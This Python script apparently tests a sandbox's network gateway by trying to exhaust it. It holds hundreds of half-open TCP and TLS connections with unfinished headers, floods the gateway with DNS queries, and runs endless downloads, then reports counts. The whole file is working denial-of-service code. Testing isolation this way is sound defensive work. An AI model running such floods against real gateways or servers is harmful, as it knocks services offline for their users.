"""Takes everything that it can get of the gateway, until so many seconds after it says HOGGING, and until it has
tried 10,000 connections: half-open handshakes and heads that never end, look-ups, and downloads."""

import collections
import sys
import threading

from attack import *

SECONDS = float(sys.argv[1])
# Most seconds more for the last of the connections.
PATIENCE = 90
ATTEMPTS = 10_000
# Connections of each kind that are kept: together fewer than the usual 1,024 descriptors.
HELD = 250
LOCK = threading.Lock()
COUNTS = {"connections": 0, "refused": 0, "queries": 0, "answers": 0, "bytes": 0}


def connections(port, beginning):
    """New connections without end, none of which is closed as long as there are descriptors for more."""
    held = collections.deque()
    while True:
        if len(held) >= HELD:
            held.popleft().close()
        try:
            connection = socket.socket()
            held.append(connection)
            connection.settimeout(2)
            connection.connect((GATEWAY, port))
            connection.sendall(beginning)
            outcome = "connections"
        except OSError:
            outcome = "refused"
        with LOCK:
            COUNTS[outcome] += 1


def attempts():
    return COUNTS["connections"] + COUNTS["refused"]


def queries():
    connection = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    connection.setblocking(False)
    while True:
        for number in range(50):
            try:
                connection.sendto(query(f"x{number}.evil.test"), (GATEWAY, 53))
                COUNTS["queries"] += 1
            except OSError:
                time.sleep(0.01)
        try:
            while connection.recv(512):
                COUNTS["answers"] += 1
        except OSError:
            time.sleep(0.02)


def downloads():
    while True:
        try:
            connection = inspected("big.example.test")
            connection.sendall(request("big.example.test", "/endless").encode())
            while True:
                more = connection.recv(1 << 20)
                if not more:
                    break
                COUNTS["bytes"] += len(more)
        except (OSError, EOFError, Refused):
            time.sleep(0.05)


def start(work, *arguments):
    threading.Thread(target=work, args=arguments, daemon=True).start()


# One after the other, so that each is as fast as this sandbox's processor share lets it be when it meets its ceiling:
# connections (a gateway keeps a silent one for seconds), then look-ups, then bytes.
start(connections, PROXY_PORT, b"CONNECT seen.example.test:443 HTTP/1.1\r\n")
start(connections, 443, b"\x16\x03\x01\x02\x00")
start(connections, 80, b"GET / HTTP/1.1\r\n")
while attempts() < 400:
    time.sleep(0.05)
start(queries)
while COUNTS["queries"] < 400:
    time.sleep(0.05)
start(downloads)
start(downloads)
print("HOGGING", flush=True)
time.sleep(SECONDS)
end = time.monotonic() + PATIENCE
while attempts() < ATTEMPTS and time.monotonic() < end:
    time.sleep(0.1)
RESULTS.update({name: str(count) for name, count in COUNTS.items()})
print("RESULT " + json.dumps(RESULTS), flush=True)
os._exit(0)
